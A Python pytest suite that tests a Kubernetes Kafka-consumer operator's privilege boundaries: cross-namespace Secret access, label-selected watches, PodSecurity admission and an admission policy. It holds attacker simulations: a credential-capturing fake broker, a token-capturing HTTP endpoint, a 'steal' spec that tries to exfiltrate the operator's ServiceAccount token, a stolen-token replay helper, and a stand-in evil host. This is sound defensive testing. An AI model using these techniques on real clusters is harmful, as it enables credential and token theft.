"""Privilege and trust (docs/security.md), on the test bed's real apiserver, with the operator run
on the install manifests' RBAC (its ServiceAccount's token, not the admin's):

- whoever may create AdaptiveConsumers in a namespace cannot use one to read a Secret of another
  namespace, neither through a Secret reference nor by making the operator hand its own token
  (which, cluster-wide, may get every Secret) to a server of their choosing;
- the operator watches its children and pods with a server-side label selector, so it never
  receives other objects;
- the consumer pods are admitted by the apiserver's PodSecurity admission enforcing `restricted`.
"""
from __future__ import annotations

import asyncio
import base64
import http.server
import json
import socket
import ssl
import struct
import threading
import uuid
from collections import defaultdict
from pathlib import Path
from typing import Any, Callable, Iterator
from urllib.parse import parse_qs, urlsplit

import pytest
import yaml

from afc.operator.kube import Kube
from afc.operator.testing import OperatorProcess, delete_consumers, mark_pods_ready
from afctest import Testbed, wait_for
from integration.test_operator_rbac import (FAST, MANIFESTS, SELECTOR, admin, apply_docs, can_i, condition,
                                            consumer, render_install, token_kubeconfig)

pytestmark = [pytest.mark.k8s, pytest.mark.kafka]

OWN = "app.kubernetes.io/managed-by=afc-operator"


# --------------------------------------------------------------------------- the attacker's servers

class CaptureBroker:
    """The server a tenant names as `bootstrapServers`: it speaks just enough of the Kafka protocol
    (ApiVersions, SaslHandshake offering PLAIN) for a client to send its SASL PLAIN credentials,
    and keeps every byte it receives. Not a stand-in for a broker we run: it plays whoever a
    resource's author points the operator at."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received = bytearray()
        self._lock = threading.Lock()
        threading.Thread(target=self._serve, daemon=True).start()

    @property
    def bootstrap(self) -> str:
        return f"127.0.0.1:{self.port}"

    def saw(self, value: str) -> bool:
        with self._lock:
            return value.encode() in self.received

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._conn, args=(conn,), daemon=True).start()

    def _conn(self, conn: socket.socket) -> None:
        with conn:
            try:
                while True:
                    head = _recv(conn, 4)
                    body = _recv(conn, struct.unpack(">i", head)[0])
                    with self._lock:
                        self.received += body
                    api_key, version, correlation = struct.unpack(">hhi", body[:8])
                    reply = self._answer(api_key, version)
                    if reply is None:
                        continue      # no answer: the client times out (metadata and the rest)
                    payload = struct.pack(">i", correlation) + reply
                    conn.sendall(struct.pack(">i", len(payload)) + payload)
            except (OSError, ConnectionError, struct.error):
                return

    @staticmethod
    def _answer(api_key: int, version: int) -> bytes | None:
        if api_key == 18:  # ApiVersions: offer SaslHandshake 0-1 and SaslAuthenticate 0-1 (and Metadata)
            apis = [(18, 0, 3), (17, 0, 1), (36, 0, 1), (3, 0, 4)]
            if version >= 3:  # flexible: compact array, tagged fields
                return (struct.pack(">h", 0) + bytes([len(apis) + 1])
                        + b"".join(struct.pack(">hhh", *a) + b"\0" for a in apis) + struct.pack(">i", 0) + b"\0")
            return struct.pack(">hi", 0, len(apis)) + b"".join(struct.pack(">hhh", *a) for a in apis)
        if api_key == 17:  # SaslHandshake: PLAIN is what we take
            return struct.pack(">hih", 0, 1, 5) + b"PLAIN"
        if api_key == 36:  # SaslAuthenticate: refused (the bytes are kept already)
            msg = b"no"
            out = struct.pack(">hh", 58, len(msg)) + msg + struct.pack(">i", 0)
            return out + (struct.pack(">q", 0) if version >= 1 else b"")
        return None

    def close(self) -> None:
        self.sock.close()


def _recv(conn: socket.socket, n: int) -> bytes:
    data = conn.recv(n, socket.MSG_WAITALL) if n else b""
    if len(data) < n:
        raise ConnectionError("closed")
    return data


class CaptureHttp:
    """An HTTP endpoint that keeps every request (an OAuth token endpoint of the tenant's choice)."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str, bytes]] = []
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _keep(self) -> None:
                n = int(self.headers.get("content-length") or 0)
                owner.requests.append((self.command, self.path, self.rfile.read(n)))
                self.send_response(400)
                self.end_headers()
            do_GET = do_POST = _keep

            def log_message(self, *args: Any) -> None:
                pass
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}/token"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class RecordingProxy:
    """A plain-HTTP front of the real apiserver for one client: it forwards every request, keeps
    the request line and every byte of each response (watch streams included), so a test sees
    what the operator asks for and what it receives."""

    def __init__(self, upstream: str, ca_file: str) -> None:
        self.upstream, self.ca_file = upstream.rstrip("/"), ca_file
        self.requests: list[tuple[str, str]] = []
        self.bodies: dict[str, bytearray] = defaultdict(bytearray)   # path (no query) -> bytes received
        self._loop = asyncio.new_event_loop()
        self._ready = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        self._ready.wait(10)

    def _run(self) -> None:
        from aiohttp import ClientSession, ClientTimeout, TCPConnector, web
        asyncio.set_event_loop(self._loop)
        ctx = ssl.create_default_context(cafile=self.ca_file)

        async def handle(request: web.Request) -> web.StreamResponse:
            self.requests.append((request.method, request.path_qs))
            body = await request.read()
            headers = {k: v for k, v in request.headers.items()
                       if k.lower() not in ("host", "content-length", "transfer-encoding", "connection",
                                            "accept-encoding")}
            async with self._session.request(request.method, self.upstream + request.path_qs, headers=headers,
                                             data=body or None) as up:
                resp = web.StreamResponse(status=up.status, headers={
                    k: v for k, v in up.headers.items() if k.lower() in ("content-type", "audit-id")})
                await resp.prepare(request)
                async for chunk in up.content.iter_any():
                    self.bodies[request.path] += chunk
                    await resp.write(chunk)
                await resp.write_eof()
                return resp

        async def start() -> None:
            self._session = ClientSession(connector=TCPConnector(ssl=ctx), timeout=ClientTimeout(total=None))
            app = web.Application()
            app.router.add_route("*", "/{tail:.*}", handle)
            self._runner = web.AppRunner(app)
            await self._runner.setup()
            self._site = web.TCPSite(self._runner, "127.0.0.1", 0)
            await self._site.start()
            self.port = self._site._server.sockets[0].getsockname()[1]
            self._ready.set()
        self._loop.run_until_complete(start())
        self._loop.run_forever()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def received(self, text: str) -> list[str]:
        """The paths whose responses contained `text`."""
        return [p for p, b in list(self.bodies.items()) if text.encode() in b]

    def close(self) -> None:
        async def stop() -> None:     # abrupt: open watch streams are cut, not drained
            await self._session.close()
            self._site._server.close()
            rest = [t for t in asyncio.all_tasks() if t is not asyncio.current_task()]
            for t in rest:
                t.cancel()
            await asyncio.gather(*rest, return_exceptions=True)
        asyncio.run_coroutine_threadsafe(stop(), self._loop).result(10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)


# --------------------------------------------------------------------------- fixtures and helpers

@pytest.fixture
def new_namespace(core, names) -> Iterator[Callable[[str], str]]:
    from kubernetes import client
    made: list[str] = []

    def make(suffix: str) -> str:
        name = f"{names.namespace[:50]}-{suffix}"[:63].rstrip("-")
        core.create_namespace(client.V1Namespace(metadata=client.V1ObjectMeta(
            name=name, labels={"afc.dev/test": "true"})))
        made.append(name)
        return name
    yield make
    for name in made:
        core.delete_namespace(name, propagation_policy="Background")


def sa_token(kubeconfig: Path) -> str:
    return yaml.safe_load(kubeconfig.read_text())["users"][0]["user"]["token"]


def tenant(testbed: Testbed, tmp_path: Path, namespace: str) -> Path:
    """A ServiceAccount that may manage AdaptiveConsumers in `namespace` and read what they make,
    but no Secret anywhere: a team the platform lets create consumers."""
    docs = [
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "tenant", "namespace": namespace}},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
         "metadata": {"name": "tenant", "namespace": namespace},
         "rules": [{"apiGroups": ["afc.dev"], "resources": ["adaptiveconsumers"],
                    "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"]},
                   {"apiGroups": ["", "apps"], "resources": ["pods", "statefulsets", "configmaps", "events"],
                    "verbs": ["get", "list", "watch"]}]},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
         "metadata": {"name": "tenant", "namespace": namespace},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "tenant"},
         "subjects": [{"kind": "ServiceAccount", "name": "tenant", "namespace": namespace}]},
    ]
    apply_docs(testbed, docs)
    (tmp_path / "tenant").mkdir()
    return token_kubeconfig(testbed, tmp_path / "tenant", namespace, "tenant")


def apply_as(testbed: Testbed, kubeconfig: Path, obj: dict[str, Any]):
    """kubectl apply as the ServiceAccount of `kubeconfig` (the later --kubeconfig wins)."""
    return testbed.run_kubectl(f"--kubeconfig={kubeconfig}", "apply", "-f", "-", input=json.dumps(obj), check=False)


def what_it_opens(testbed: Testbed, endpoint: CaptureHttp, namespace: str) -> str:
    """What a token that reached the tenant's endpoint lets the tenant do: read the Secret of B."""
    tokens = [t for _, _, body in endpoint.requests for t in parse_qs(body.decode()).get("assertion", [])]
    for token in tokens:
        r = testbed.run_kubectl(f"--token={token}", "get", "secret", "kafka-credentials", "-n", namespace,
                                "-o", "jsonpath={.data.password}", check=False)
        if r.returncode == 0:
            return f"with it the tenant read Secret {namespace}/kafka-credentials ({r.stdout[:12]}...)"
    return f"{len(endpoint.requests)} request(s)"


def everything_in(testbed: Testbed, namespace: str) -> str:
    """Every object a tenant can read in its namespace that the operator writes, as text."""
    return testbed.run_kubectl("get", "adaptiveconsumers.afc.dev,statefulsets,configmaps,services,events",
                               "-n", namespace, "-o", "json").stdout


# --------------------------------------------------------------------------- tests

def test_a_tenant_cannot_read_a_secret_of_another_namespace_through_an_adaptiveconsumer(
        testbed: Testbed, api: Kube, core, crd_installed: None, namespace: str, new_namespace, names,
        tmp_path: Path) -> None:
    """The operator runs on the cluster-wide install's ClusterRole (it may get every Secret of the
    cluster; here it serves the tenant's namespace only, not to touch other tests'). A tenant that
    may create AdaptiveConsumers in A, and read no Secret at all:
    - names B's Secret in `saslPasswordSecretRef`: the reference has no namespace (a `namespace`
      key is refused or pruned, a "B/name" is refused by the schema), the operator looks it up in A
      only (SecretNotFound), and B's password reaches neither the tenant's broker nor anything the
      tenant can read;
    - asks, through `kafka.extra`, that the operator's client fetch an OAuth token by sending the
      operator's own ServiceAccount token (the file a pod has it in) to the tenant's endpoint: the
      operator's client takes no such property, nothing is sent (before this was fixed, the token
      arrived, and with it every Secret of the cluster).
    Then A gets a Secret of that name: the operator sends *that* password to the broker the
    resource names (the trust model: a resource's author chooses where its own namespace's
    credentials go, as its pods would), which shows the capture works, so the test can fail."""
    ns_a, ns_b = new_namespace("a"), new_namespace("b")
    prefix = f"{names.stem[:30]}-"
    docs = render_install(testbed, tmp_path, MANIFESTS / "cluster-wide", namespace, prefix=prefix)
    cluster_scoped = [d for d in docs if d["kind"].startswith("Cluster")]
    broker, endpoint = CaptureBroker(), CaptureHttp()
    b_password, a_password = f"b-secret-{uuid.uuid4().hex}", f"a-secret-{uuid.uuid4().hex}"
    try:
        apply_docs(testbed, [d for d in docs if d["kind"] != "Deployment"])
        op_kubeconfig = token_kubeconfig(testbed, tmp_path, namespace, f"{prefix}afc-operator")
        token_file = tmp_path / "serviceaccount" / "token"   # where a pod has it: /var/run/secrets/...
        token_file.parent.mkdir()
        token_file.write_text(sa_token(op_kubeconfig))
        assert can_i(testbed, op_kubeconfig, "get", "secrets", "-n", ns_b)  # the privilege not to lend

        testbed.run_kubectl("create", "secret", "generic", "kafka-credentials", "-n", ns_b,
                            f"--from-literal=password={b_password}")
        tenant_kubeconfig = tenant(testbed, tmp_path, ns_a)
        for ns in (ns_a, ns_b):
            assert not can_i(testbed, tenant_kubeconfig, "get", "secrets", "-n", ns)
        assert can_i(testbed, tenant_kubeconfig, "create", "adaptiveconsumers.afc.dev", "-n", ns_a)
        assert not can_i(testbed, tenant_kubeconfig, "create", "adaptiveconsumers.afc.dev", "-n", ns_b)

        def spec(name: str, **kafka: Any) -> dict[str, Any]:
            obj = consumer(testbed, names, "orders", ns_a)
            obj["metadata"]["name"] = name
            obj["spec"]["kafka"].update(bootstrapServers=broker.bootstrap, **kafka)
            return obj
        sasl = dict(securityProtocol="SASL_PLAINTEXT", saslMechanism="PLAIN", saslUsername="tenant")
        elsewhere = spec("orders")
        elsewhere["metadata"]["namespace"] = ns_b
        r = apply_as(testbed, tenant_kubeconfig, elsewhere)   # apply_as really is the tenant
        assert r.returncode != 0 and "forbidden" in r.stderr.lower(), r.stderr

        # a reference can only name a Secret of the resource's own namespace
        r = apply_as(testbed, tenant_kubeconfig, spec("orders", **sasl, saslPasswordSecretRef={
            "name": f"{ns_b}/kafka-credentials", "key": "password"}))
        assert r.returncode != 0 and "saslPasswordSecretRef.name" in r.stderr, r.stderr
        r = apply_as(testbed, tenant_kubeconfig, spec("orders", **sasl, saslPasswordSecretRef={
            "name": "kafka-credentials", "key": "password", "namespace": ns_b}))
        if r.returncode == 0:   # accepted without the field: the apiserver prunes what the schema lacks
            stored = json.loads(testbed.run_kubectl("get", "adaptiveconsumers.afc.dev/orders", "-n", ns_a,
                                                    "-o", "json").stdout)
            assert "namespace" not in stored["spec"]["kafka"]["saslPasswordSecretRef"]
        else:
            assert "namespace" in r.stderr, r.stderr

        with OperatorProcess(["--namespace", ns_a], str(op_kubeconfig), tmp_path / "operator.log", env=FAST) as op:
            r = apply_as(testbed, tenant_kubeconfig, spec("orders", **sasl, saslPasswordSecretRef={
                "name": "kafka-credentials", "key": "password"}))
            assert r.returncode == 0, r.stderr
            degraded = op.wait_until(lambda: (c := condition(api, ns_a, "Degraded")).get("reason") == "SecretNotFound"
                                     and c, 30, "Degraded/SecretNotFound")
            assert f"{ns_a}/kafka-credentials" in degraded["message"] and ns_b not in degraded["message"]

            # the operator's own token, asked for through kafka.extra
            steal = spec("steal", extra={
                "security.protocol": "SASL_PLAINTEXT", "sasl.mechanism": "OAUTHBEARER",
                "sasl.oauthbearer.method": "oidc", "sasl.oauthbearer.token.endpoint.url": endpoint.url,
                "sasl.oauthbearer.grant.type": "urn:ietf:params:oauth:grant-type:jwt-bearer",
                "sasl.oauthbearer.assertion.file": str(token_file)})
            r = apply_as(testbed, tenant_kubeconfig, steal)
            if r.returncode == 0:   # the CRD lets it through: the operator must not act on it
                op.wait_until(lambda: condition(api, ns_a, "Degraded", name="steal").get("reason")
                              in ("BrokerUnreachable", "TopicNotFound"), 40, "the operator to probe 'steal'")
            else:                   # refused by the CRD's allow-list of extra: the operator never sees it
                assert "extra" in r.stderr, r.stderr
            # (librdkafka fetches the token when the client is made, before it reaches any broker)
            assert endpoint.requests == [], f"the operator sent its token: {what_it_opens(testbed, endpoint, ns_b)}"

            # A's own Secret of that name: sent to the broker A's resource names; B's never
            testbed.run_kubectl("create", "secret", "generic", "kafka-credentials", "-n", ns_a,
                                f"--from-literal=password={a_password}")
            op.wait_until(lambda: broker.saw(a_password), 60, "A's password at the broker A's resource names")
            assert not broker.saw(b_password)
            seen_by_tenant = everything_in(testbed, ns_a)
            assert b_password not in seen_by_tenant and a_password not in seen_by_tenant  # referenced, never copied
            assert b_password not in op.log_path.read_text()
            assert endpoint.requests == []
            delete_consumers(admin(testbed), ns_a)
    finally:
        broker.close()
        endpoint.close()
        for d in cluster_scoped:
            testbed.run_kubectl("delete", d["kind"].lower(), d["metadata"]["name"], "--ignore-not-found", check=False)


def proxied_kubeconfig(kubeconfig: Path, proxy: RecordingProxy) -> Path:
    """The same identity, through the recording proxy."""
    cfg = yaml.safe_load(kubeconfig.read_text())
    cfg["clusters"][0]["cluster"] = {"server": proxy.url}
    path = kubeconfig.with_name("proxied-kubeconfig")
    path.write_text(yaml.safe_dump(cfg))
    return path


def bystanders(core, namespace: str, suffix: str) -> None:
    """A ConfigMap, a Service and a pod the operator has nothing to do with (no afc labels)."""
    from kubernetes import client
    meta = client.V1ObjectMeta(name=f"bystander-{suffix}", labels={"app": "bystander"})
    core.create_namespaced_config_map(namespace, client.V1ConfigMap(metadata=meta, data={"a": "b"}))
    core.create_namespaced_service(namespace, client.V1Service(metadata=meta, spec=client.V1ServiceSpec(
        cluster_ip="None", selector={"app": "bystander"}, ports=[client.V1ServicePort(port=80)])))
    core.create_namespaced_pod(namespace, client.V1Pod(metadata=meta, spec=client.V1PodSpec(
        containers=[client.V1Container(name="c", image="bystander")])))


def test_children_and_pods_are_watched_with_a_server_side_label_selector(
        testbed: Testbed, api: Kube, core, crd_installed: None, namespace: str, names, make_topic,
        tmp_path: Path) -> None:
    """The operator (namespaced install's Role and token) talks to the apiserver through a proxy
    that keeps every request and every byte it receives. Every list and watch of ConfigMaps,
    Services, StatefulSets, PDBs and pods carries `labelSelector=app.kubernetes.io/managed-by=
    afc-operator`, and objects without that label, created before and after the operator started
    and modified while it runs, never reach it; its own ConfigMap, StatefulSet and pods do (the
    recording sees watch streams, so without the selector the bystanders would show)."""
    docs = render_install(testbed, tmp_path, MANIFESTS, namespace)
    apply_docs(testbed, [d for d in docs if d["kind"] != "Deployment"])
    admin_cfg = yaml.safe_load(Path(testbed.kubeconfig).read_text())
    ca_file = tmp_path / "ca.crt"
    ca_file.write_bytes(base64.b64decode(admin_cfg["clusters"][0]["cluster"]["certificate-authority-data"]))
    proxy = RecordingProxy(admin_cfg["clusters"][0]["cluster"]["server"], str(ca_file))
    kubeconfig = proxied_kubeconfig(token_kubeconfig(testbed, tmp_path, namespace, "afc-operator"), proxy)
    bystanders(core, namespace, "early")
    topic = make_topic("orders")
    try:
        with OperatorProcess(["--namespace", namespace], str(kubeconfig), tmp_path / "operator.log", env=FAST) as op:
            testbed.run_kubectl("apply", "-f", "-", input=json.dumps(consumer(testbed, names, topic, namespace)))

            def is_ready() -> bool:
                mark_pods_ready(core, namespace, SELECTOR)
                return condition(api, namespace, "Ready").get("status") == "True"
            op.wait_until(is_ready, 60, "Ready through the proxy")
            bystanders(core, namespace, "late")
            core.patch_namespaced_config_map("bystander-early", namespace, {"data": {"a": "c"}})
            # a change to each of our own objects after the bystanders': once it arrived, theirs would have
            config = next(c.metadata.name for c in core.list_namespaced_config_map(namespace, label_selector=OWN).items)
            ours = [f"configmap/{config}", "service/orders", "pod/orders-0", "statefulset/orders"]
            for obj in ours:
                testbed.run_kubectl("annotate", obj, "-n", namespace, "afc.dev/test=after-the-others")
            op.wait_until(lambda: len(proxy.received("after-the-others")) >= len(ours), 30,
                          "our own objects' events, on each watch")
            delete_consumers(admin(testbed), namespace)
    finally:
        proxy.close()

    assert proxy.received("bystander") == []
    collections = {"configmaps", "services", "statefulsets", "poddisruptionbudgets", "pods"}
    reads: dict[str, list[dict[str, list[str]]]] = defaultdict(list)
    for method, path_qs in proxy.requests:
        url = urlsplit(path_qs)
        parts = url.path.rstrip("/").split("/")
        if method == "GET" and parts[-1] in collections | {"adaptiveconsumers"}:   # a list or a watch
            reads[parts[-1]].append(parse_qs(url.query))
    assert set(reads) == collections | {"adaptiveconsumers"}, proxy.requests
    for plural in collections:
        watches = [q for q in reads[plural] if q.get("watch") == ["true"]]
        assert watches and all(q.get("labelSelector") == [OWN] for q in watches), (plural, watches)
        # kopf's initial list too; the operator's own lists select one consumer's objects
        assert any(q.get("labelSelector") == [OWN] and "watch" not in q for q in reads[plural]), plural
        assert all(q.get("labelSelector") for q in reads[plural]), (plural, reads[plural])
    assert all("labelSelector" not in q for q in reads["adaptiveconsumers"])
    assert proxy.received("orders-config-") and proxy.received("orders-0")  # our own objects did arrive
    assert any("/configmaps" in p for p in proxy.received("orders-config-"))


def sts_events(testbed: Testbed, namespace: str, name: str) -> list[dict[str, Any]]:
    return json.loads(testbed.run_kubectl("get", "events", "-n", namespace, "-o", "json", "--field-selector",
                                          f"involvedObject.kind=StatefulSet,involvedObject.name={name}").stdout)["items"]


def test_consumer_pods_are_admitted_by_pod_security_restricted_in_enforce_mode(
        testbed: Testbed, api: Kube, core, crd_installed: None, namespace: str, names, make_topic,
        tmp_path: Path) -> None:
    """The test namespace enforces the `restricted` Pod Security Standard (the apiserver's
    PodSecurity admission, on by default in 1.33). It refuses a pod that does not meet it, also
    when the StatefulSet controller creates it (the path our pods take: FailedCreate); the
    AdaptiveConsumer's pods, with a podTemplate that sets env, resources and labels, are created."""
    testbed.run_kubectl("label", "namespace", namespace, "pod-security.kubernetes.io/enforce=restricted",
                        "pod-security.kubernetes.io/enforce-version=latest", "--overwrite")
    r = testbed.run_kubectl("run", "bare", "-n", namespace, "--image=busybox", "--restart=Never", check=False)
    assert r.returncode != 0 and 'violates PodSecurity "restricted:latest"' in r.stderr, r.stderr
    bare = {"apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": {"name": "bare", "namespace": namespace},
            "spec": {"replicas": 1, "serviceName": "bare", "selector": {"matchLabels": {"app": "bare"}},
                     "template": {"metadata": {"labels": {"app": "bare"}},
                                  "spec": {"containers": [{"name": "c", "image": "busybox"}]}}}}
    apply_docs(testbed, [bare])
    refused = wait_for(lambda: [e for e in sts_events(testbed, namespace, "bare") if e["reason"] == "FailedCreate"],
                       30, what="the StatefulSet controller's pod refused")
    assert "violates PodSecurity" in refused[0]["message"], refused[0]["message"]

    docs = render_install(testbed, tmp_path, MANIFESTS, namespace)
    apply_docs(testbed, [d for d in docs if d["kind"] != "Deployment"])
    kubeconfig = token_kubeconfig(testbed, tmp_path, namespace, "afc-operator")
    topic = make_topic("orders")
    with OperatorProcess(["--namespace", namespace], str(kubeconfig), tmp_path / "operator.log", env=FAST) as op:
        obj = consumer(testbed, names, topic, namespace, replicas=3, maxReplicas=3, podTemplate={
            "env": [{"name": "TZ", "value": "UTC"}], "labels": {"team": "payments"},
            "resources": {"requests": {"cpu": "100m", "memory": "128Mi"}, "limits": {"memory": "256Mi"}}})
        testbed.run_kubectl("apply", "-f", "-", input=json.dumps(obj))
        pods = op.wait_until(lambda: len(items := core.list_namespaced_pod(namespace, label_selector=SELECTOR).items)
                             == 3 and items, 60, "3 consumer pods admitted under restricted")
        for pod in pods:
            c = pod.spec.containers[0].security_context
            assert c.allow_privilege_escalation is False and c.capabilities.drop == ["ALL"]
            assert pod.spec.security_context.run_as_non_root and pod.spec.security_context.seccomp_profile.type == "RuntimeDefault"
        assert [e for e in sts_events(testbed, namespace, "orders") if e["reason"] == "FailedCreate"] == []
        delete_consumers(admin(testbed), namespace)


def test_cluster_wide_install_with_secrets_granted_per_namespace(
        testbed: Testbed, api: Kube, core, crd_installed: None, namespace: str, new_namespace, names, make_topic,
        tmp_path: Path) -> None:
    """manifests/cluster-wide-secrets-per-namespace: the ClusterRole has no Secret rule; a namespace
    whose admins bind afc-operator-secrets is served whole (its AdaptiveConsumer, referencing a
    Secret, becomes Ready); in one that did not, the operator cannot read the Secret (Forbidden,
    named in the Degraded condition) though it may still read the AdaptiveConsumer there."""
    granted, other = new_namespace("granted"), new_namespace("other")
    prefix = f"{names.stem[:30]}-"
    docs = render_install(testbed, tmp_path, MANIFESTS / "cluster-wide-secrets-per-namespace",
                          namespace, prefix=prefix)
    assert {d["kind"] for d in docs} == {"ServiceAccount", "ClusterRole", "ClusterRoleBinding", "Deployment"}
    (main_role,) = [d for d in docs if d["kind"] == "ClusterRole" and d["metadata"]["name"] == f"{prefix}afc-operator"]
    assert not [r for r in main_role["rules"] if "secrets" in r["resources"]]
    cluster_scoped = [d for d in docs if d["kind"].startswith("Cluster")]
    sa = f"{prefix}afc-operator"
    try:
        apply_docs(testbed, [d for d in docs if d["kind"] != "Deployment"])
        testbed.run_kubectl("create", "rolebinding", "afc-operator-secrets", "-n", granted,
                            f"--clusterrole={prefix}afc-operator-secrets", f"--serviceaccount={namespace}:{sa}")
        kubeconfig = token_kubeconfig(testbed, tmp_path, namespace, sa)
        assert can_i(testbed, kubeconfig, "get", "secrets", "-n", granted)
        assert not can_i(testbed, kubeconfig, "get", "secrets", "-n", other)
        assert not can_i(testbed, kubeconfig, "get", "secrets", "-n", namespace)
        assert can_i(testbed, kubeconfig, "list", "adaptiveconsumers.afc.dev", "--all-namespaces")
        topic = make_topic("orders")
        with OperatorProcess(["--namespace", granted, "--namespace", other], str(kubeconfig),
                             tmp_path / "operator.log", env=FAST) as op:
            for ns in (granted, other):
                testbed.run_kubectl("create", "secret", "generic", "redis", "-n", ns,
                                    f"--from-literal=url={testbed.redis_url}")
                testbed.run_kubectl("apply", "-f", "-", input=json.dumps(consumer(
                    testbed, names, topic, ns, idempotency={"redisUrlSecretRef": {"name": "redis", "key": "url"}})))

            def is_ready() -> bool:
                mark_pods_ready(core, granted, SELECTOR)
                return condition(api, granted, "Ready").get("status") == "True"
            op.wait_until(is_ready, 120, f"Ready in {granted}")
            refused = op.wait_until(lambda: (c := condition(api, other, "Degraded")).get("reason") == "Forbidden" and c,
                                    30, f"Degraded/Forbidden in {other}")
            assert "secrets" in refused["message"], refused["message"]
            for ns in (granted, other):
                delete_consumers(admin(testbed), ns)
    finally:
        for d in cluster_scoped:
            testbed.run_kubectl("delete", d["kind"].lower(), d["metadata"]["name"], "--ignore-not-found", check=False)


def test_the_documented_admission_policy_bounds_where_credentials_go(
        testbed: Testbed, crd_installed: None, namespace: str, names, tmp_path: Path) -> None:
    """docs/security.md's ValidatingAdmissionPolicy, as written there (bound to this test's
    namespace only): a broker outside the allowed domain and SASL_PLAINTEXT are refused with the
    field named, an allowed broker over SASL_SSL is admitted. The way a platform team bounds where
    a resource's credentials go (the operator does not: they go where its pods send them)."""
    text = (MANIFESTS.parent / "docs" / "security.md").read_text()
    block = text.split("```yaml\n", 1)[1].split("```", 1)[0]
    policy, binding = list(yaml.safe_load_all(block))
    name = f"{names.stem[:40]}-afc-kafka"
    policy["metadata"]["name"] = binding["metadata"]["name"] = binding["spec"]["policyName"] = name
    binding["spec"]["matchResources"] = {"namespaceSelector": {"matchLabels": {
        "kubernetes.io/metadata.name": namespace}}}

    def attempt(bootstrap: str, protocol: str) -> Any:
        obj = consumer(testbed, names, "orders", namespace)
        obj["spec"]["kafka"].update(bootstrapServers=bootstrap, securityProtocol=protocol, saslMechanism="SCRAM-SHA-512",
                                    saslUsername="u", saslPasswordSecretRef={"name": "kafka", "key": "password"})
        return testbed.run_kubectl("apply", "--dry-run=server", "-f", "-", input=json.dumps(obj), check=False)
    try:
        apply_docs(testbed, [policy, binding])
        outside = wait_for(lambda: (r := attempt("evil.example.org:9093", "SASL_SSL")).returncode != 0 and r, 30,
                           what="the policy in force")
        assert "only brokers of *.kafka.example.com" in outside.stderr, outside.stderr
        r = attempt("b-0.kafka.example.com:9093,b-1.kafka.example.com:9093", "SASL_PLAINTEXT")
        assert r.returncode != 0 and "SASL_PLAINTEXT sends the password in clear" in r.stderr, r.stderr
        r = attempt("b-0.kafka.example.com:9093, b-1.kafka.example.com:9093", "SASL_SSL")
        assert r.returncode == 0, r.stderr
        r = attempt("b-0.kafka.example.com:9093,evil.example.org:9093", "SASL_SSL")
        assert r.returncode != 0 and "bootstrapServers" in r.stderr, r.stderr
    finally:
        for kind in ("validatingadmissionpolicybinding", "validatingadmissionpolicy"):
            testbed.run_kubectl("delete", kind, name, "--ignore-not-found", check=False)
